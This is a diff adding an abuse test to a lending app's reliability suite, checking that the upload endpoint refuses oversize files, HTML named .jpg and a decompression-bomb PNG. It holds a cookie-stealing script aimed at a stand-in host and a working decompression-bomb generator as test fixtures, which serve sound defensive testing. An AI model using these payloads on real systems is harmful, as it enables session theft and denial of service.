@@ -9,9 +9,10 @@ import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
+import { constants as zlibConstants, crc32, deflateRawSync } from 'node:zlib';
 import autocannon from 'autocannon';
 import pg from 'pg';
-import { AccountPath, MACHINE_BASE, MachinePath, OPERATOR_BASE, OperatorPath } from '@lend/contracts';
+import { AccountPath, ErrorCode, Limits, MACHINE_BASE, MachinePath, OPERATOR_BASE, OperatorPath } from '@lend/contracts';
 import { call, sessionQuery } from './bench/read-api.mjs';
 import { ensureBook, sampleBorrowers } from './bench/volume.mjs';
 import { clusterSettings, startCluster } from './cluster.mjs';
@@ -23,6 +24,9 @@ const LOAD_SECONDS = Number(process.env.RELIABILITY_LOAD_SECONDS || 10);
 const BOOK_BORROWERS = 200;
 const READERS = 50;
 const SERVICE_UNAVAILABLE = 5003;
+/** Each abusive upload is sent this many times at once, so that both servers refuse each kind. */
+const ABUSE_COPIES = 8;
+const MEMORY_CEILING_MIB = 300;
 
 let cluster;
 let redis;
@@ -179,6 +183,71 @@ function sendCode(phone, address) {
 const smsSentTo = async (e164) =>
   (await call(cluster.url, 'GET', `${OPERATOR_BASE}${OperatorPath.smsOutbox}?phone=${encodeURIComponent(e164)}`, { token })).items.length;
 
+/** A PNG chunk: its length, type, data, and the CRC of type and data. */
+function pngChunk(type, data) {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const framed = Buffer.alloc(body.length + 8);
+  framed.writeUInt32BE(data.length, 0);
+  body.copy(framed, 4);
+  framed.writeUInt32BE(crc32(body), body.length + 4);
+  return framed;
+}
+
+/**
+ * A black RGB PNG of `width` × `height` pixels, built without ever holding its pixels: a deflate
+ * block ended by a full flush refers to nothing before it, so one row's block, repeated, is the
+ * whole image. At 20,000 × 20,000 it is a decompression bomb: 1.6 MB that inflate to 1.2 GB.
+ */
+function blackPng(width, height) {
+  // Each row is a filter byte (none) and three zero bytes a pixel.
+  const rowBytes = 1 + width * 3;
+  const row = deflateRawSync(Buffer.alloc(rowBytes), { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
+  const adler = Buffer.alloc(4);
+  // The Adler-32 of zero bytes only: its low sum stays 1, its high sum is their count.
+  adler.writeUInt32BE(((rowBytes * height) % 65_521) * 65_536 + 1);
+  const pixels = Buffer.concat([Buffer.from([0x78, 0xda]), ...Array(height).fill(row), deflateRawSync(Buffer.alloc(0)), adler]);
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header[8] = 8; // bits a sample
+  header[9] = 2; // colour type: RGB
+  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+  return Buffer.concat([signature, pngChunk('IHDR', header), pngChunk('IDAT', pixels), pngChunk('IEND', Buffer.alloc(0))]);
+}
+
+/** An answer's status and envelope, and which server gave it (the balancer says in `X-Served-By`). */
+async function answered(response) {
+  return { status: response.status, server: response.headers.get('x-served-by'), body: await response.json() };
+}
+
+/** One file in the complaint screen's multipart form, through the balancer. */
+function uploadImage(borrower, bytes, filename, type) {
+  const form = new FormData();
+  form.append('problemImage', new Blob([bytes], { type }), filename);
+  return fetch(`${cluster.url}${MACHINE_BASE}${MachinePath.complaintImageUpload}?${sessionQuery(borrower)}`, { method: 'POST', body: form }).then(answered);
+}
+
+/** A complaint about the borrower's latest order with the uploaded images, as the screen files it. */
+function fileComplaint(borrower, urls) {
+  const form = { problemType: '3', problemDetail: 'La aplicación no muestra mi pago', problemImage: urls.join(','), orderNo: borrower.order_no };
+  return fetch(`${cluster.url}${MACHINE_BASE}${MachinePath.complaintSave}?${sessionQuery(borrower)}`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams(form).toString(),
+  }).then(answered);
+}
+
+async function complaintRows() {
+  const client = new pg.Client({ connectionString: databaseUrl(database) });
+  await client.connect();
+  try {
+    const { rows } = await client.query('select (select count(*) from complaints)::int as complaints, (select count(*) from complaint_images)::int as images');
+    return rows[0];
+  } finally {
+    await client.end();
+  }
+}
+
 before(async () => {
   // A small book (the volume seed: every status, balanced books) before the servers start, so they seed no demo data over it.
   const admin = new pg.Client({ connectionString: adminUrl });
@@ -247,6 +316,64 @@ test('abuse: codes asked for one phone across both servers send one SMS', async 
   figure(t, 'abuse.sms_flood.sent', sent);
   assert.equal(sent, 1);
   assert.equal(answers.filter((answer) => answer.body.code === 0).length, 1);
+});
+
+test('abuse: a tenth image, 5 MiB + 1, HTML named .jpg and a 20,000 × 20,000 PNG are refused by both servers, each under 300 MiB', async (t) => {
+  const small = blackPng(40, 30);
+  const files = {
+    oversize: { bytes: Buffer.concat([small, Buffer.alloc(Limits.complaintImageBytesMax + 1 - small.length)]), name: 'evidence.png', type: 'image/png' },
+    html: { bytes: Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>'), name: 'evidence.jpg', type: 'image/jpeg' },
+    bomb: { bytes: blackPng(20_000, 20_000), name: 'evidence.png', type: 'image/png' },
+  };
+  const expected = {
+    tenth: { status: 400, code: ErrorCode.ComplaintTooManyImages },
+    oversize: { status: 413, code: ErrorCode.ComplaintImageTooLarge },
+    html: { status: 415, code: ErrorCode.ComplaintImageNotImage },
+    bomb: { status: 415, code: ErrorCode.ComplaintImageNotImage },
+  };
+  // The borrowers who file complaints send no abusive file, so the images they upload are exactly theirs.
+  const filers = borrowers.slice(0, ABUSE_COPIES);
+  const senders = borrowers.slice(ABUSE_COPIES, 2 * ABUSE_COPIES);
+  const rowsBefore = await complaintRows();
+  const peak = cluster.servers.map((server) => residentMiB(server.pid));
+  const sample = () => cluster.servers.forEach((server, i) => (peak[i] = Math.max(peak[i], residentMiB(server.pid))));
+  const sampler = setInterval(sample, 50);
+  let refused;
+  let uploads;
+  let tenth;
+  let nine;
+  try {
+    // Every abusive file at once, beside each filer's uploads of one image more than a complaint may hold.
+    [refused, uploads] = await Promise.all([
+      Promise.all(Object.values(files).map((file) => Promise.all(senders.map((sender) => uploadImage(sender, file.bytes, file.name, file.type))))),
+      Promise.all(filers.map((filer) => Promise.all(Array.from({ length: Limits.complaintImagesMax + 1 }, () => uploadImage(filer, small, 'evidence.png', 'image/png'))))),
+    ]);
+    const urls = uploads.map((list) => list.map((answer) => answer.body.data?.url ?? ''));
+    tenth = await Promise.all(filers.map((filer, i) => fileComplaint(filer, urls[i])));
+    // The same images less the tenth are taken: the limit is the tenth image, not fewer.
+    nine = await Promise.all(filers.map((filer, i) => fileComplaint(filer, urls[i].slice(0, Limits.complaintImagesMax))));
+  } finally {
+    clearInterval(sampler);
+  }
+  sample();
+  const answers = { tenth, ...Object.fromEntries(Object.keys(files).map((kind, i) => [kind, refused[i]])) };
+  const refusedOn = (kind, server) =>
+    answers[kind].filter((answer) => answer.server === server && answer.status === expected[kind].status && answer.body.code === expected[kind].code).length;
+  figure(t, 'abuse.uploads.refused_a_b', JSON.stringify(Object.fromEntries(Object.keys(answers).map((kind) => [kind, `${refusedOn(kind, 'a')}/${refusedOn(kind, 'b')}`]))));
+  figure(t, 'abuse.uploads.peak_memory_mib', peak.join('/'));
+  assert.deepEqual(uploads.flat().map((answer) => answer.body.code), Array(filers.length * (Limits.complaintImagesMax + 1)).fill(0));
+  for (const [kind, list] of Object.entries(answers)) {
+    assert.deepEqual(
+      list.map((answer) => ({ status: answer.status, code: answer.body.code, data: answer.body.data })),
+      list.map(() => ({ ...expected[kind], data: null })),
+      kind,
+    );
+    assert.deepEqual(new Set(list.map((answer) => answer.server)), new Set(['a', 'b']), `${kind} reached both servers`);
+  }
+  assert.deepEqual(nine.map((answer) => answer.body.code), filers.map(() => 0));
+  // Refused files left no image row and the refused complaints no complaint: only the filers' uploads and nine-image complaints were kept.
+  assert.deepEqual(await complaintRows(), { complaints: rowsBefore.complaints + filers.length, images: rowsBefore.images + uploads.flat().length });
+  for (const [i, mib] of peak.entries()) assert.ok(mib < MEMORY_CEILING_MIB, `server ${cluster.servers[i].name} reached ${mib} MiB`);
 });
 
 test('Redis stopped under load: SMS codes are refused, not sent; order reads keep answering', async (t) => {
